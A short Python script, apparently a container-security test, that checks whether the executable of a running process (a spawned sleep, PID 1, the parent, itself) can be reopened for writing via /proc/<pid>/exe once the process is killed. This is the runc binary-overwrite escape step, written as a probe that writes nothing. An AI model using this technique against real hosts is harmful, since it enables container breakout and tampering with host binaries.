"""Overwrites the program of a running process by the descriptor that /proc gives of it, once it runs no more.
So runc's own binary was once replaced from inside a container."""
import os
import shutil
import signal
import time

from attack import is_control, stopped, through


def begun(pid):
    """Waits until the process runs its program: for a moment it is closed to everybody, or still this interpreter."""
    for _ in range(100):
        try:
            if os.readlink(f'/proc/{pid}/exe') != os.readlink('/proc/self/exe'):
                return
        except PermissionError:
            pass
        time.sleep(0.01)


def reopen(pid):
    """Opens the process's program to read, ends the process, and opens what it has to write."""
    reading = os.open(f'/proc/{pid}/exe', os.O_RDONLY)
    if pid not in (1, os.getppid(), os.getpid()):
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    os.close(os.open(f'/proc/self/fd/{reading}', os.O_WRONLY))


program = '/bin/sleep'
if is_control():
    program = shutil.copy(program, os.path.abspath('sleep'))
child = os.posix_spawn(program, ['sleep', '20'], {})
begun(child)
for pid in [child] if is_control() else [child, 1, os.getppid(), os.getpid()]:
    name = f'process {pid}'
    try:
        reopen(pid)
        through(f'the program of {name} is open to write')
    except OSError as error:
        stopped(f'{name}: {error.strerror}')
